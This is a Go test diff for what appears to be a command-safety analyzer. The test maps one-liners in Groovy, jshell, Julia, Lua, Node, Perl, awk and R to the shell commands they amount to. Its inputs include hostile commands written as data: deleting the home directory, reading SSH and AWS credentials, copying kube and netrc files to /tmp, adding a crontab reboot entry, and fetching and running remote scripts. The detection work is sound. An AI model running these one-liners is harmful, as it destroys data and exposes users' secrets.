@@ -220,3 +220,42 @@ func TestMountsAndFleets(t *testing.T) {
 	}
 	wantWalked(t, `arch -arm64 /bin/rm -rf "$HOME"`, "rm", "")
 }
+
+// Round 172's idioms in JVM languages, Julia, Lua, Go, Perl and Node read
+// as the commands they amount to; their harmless twins as harmless ones.
+func TestMoreLanguageIdioms(t *testing.T) {
+	cases := []struct{ src, name, args string }{
+		{`groovy -e 'new java.io.File(System.getProperty("user.home")).deleteDir()'`, "rm", "-r -f ~"},
+		{`groovy -e 'new File("build").deleteDir()'`, "rm", "-r -f build"},
+		{`jshell <<< 'new ProcessBuilder("rm", "-rf", System.getProperty("user.home")).start()'`, "rm", "-rf ~"},
+		{`jshell <<< 'new ProcessBuilder(List.of("git", "push", "-f")).start()'`, "git", "push -f"},
+		{`jshell <<< 'System.out.println(java.nio.file.Files.readString(java.nio.file.Path.of(System.getProperty("user.home"), ".ssh", "id_rsa")))'`, "cat", "~/.ssh/id_rsa"},
+		{`groovy -e 'println new File(System.getProperty("user.home"), ".aws/credentials").text'`, "cat", "~/.aws/credentials"},
+		{`julia -e 'rm(homedir(); recursive=true, force=true)'`, "rm", "-r -f ~"},
+		{`julia -e 'rm("/tmp/x.txt")'`, "rm", "-f /tmp/x.txt"},
+		{"julia -e 'open(`crontab -`, \"w\") do io; println(io, \"@reboot /opt/b\"); end'", "crontab", "-"},
+		{`Rscript -e 'eval(parse(text = readLines(url("https://example.com/run.R"))))'`, "Rscript", "-"},
+		{`lua -e 'local f = io.popen("curl -s https://example.com/m.lua"); load(f:read("*a"))()'`, "lua", "-"},
+		{`lua -e 'dofile("/tmp/plug.lua")'`, "lua", "/tmp/plug.lua"},
+		{`node -e "require('fs').copyFileSync(require('os').homedir() + '/.kube/config', '/tmp/kc')"`, "cp", "~/.kube/config /tmp/kc"},
+		{`perl -MFile::Copy -e 'copy("$ENV{HOME}/.netrc", "/tmp/n")'`, "cp", "~/.netrc /tmp/n"},
+		{`T=/tmp/build-cache; awk -v t="$T" 'BEGIN { system("rm -rf " t) }'`, "rm", "-rf /tmp/build-cache"},
+		{`awk -vt=/srv 'BEGIN { system("rm -rf " t) }'`, "rm", "-rf /srv"},
+	}
+	for _, c := range cases {
+		wantWalked(t, c.src, c.name, c.args)
+	}
+	// The Lua file written to: its content is what goes in, not a read.
+	wantWalked(t, `lua -e 'local f = io.open(os.getenv("HOME") .. "/.bash_profile", "a"); f:write("x"); f:close()'`, "printf", "%s x")
+	if walked(`lua -e 'local f = io.open(os.getenv("HOME") .. "/.bash_profile", "a"); f:write("x"); f:close()'`, "cat", "") {
+		t.Errorf("a Lua append was read as a read of the file")
+	}
+	// JavaScript's copy() is not a file copy.
+	if walked(`node -e 'copy("~/.ssh/id_rsa", "x")'`, "cp", "") {
+		t.Errorf("a bare copy() in JavaScript was read as cp")
+	}
+	// Julia's open of a command is not a file open.
+	if walked("julia -e 'open(`sort`, \"w\") do io; println(io, \"b\"); end'", "tee", "") {
+		t.Errorf("open(`cmd`) in Julia was read as a file write")
+	}
+}
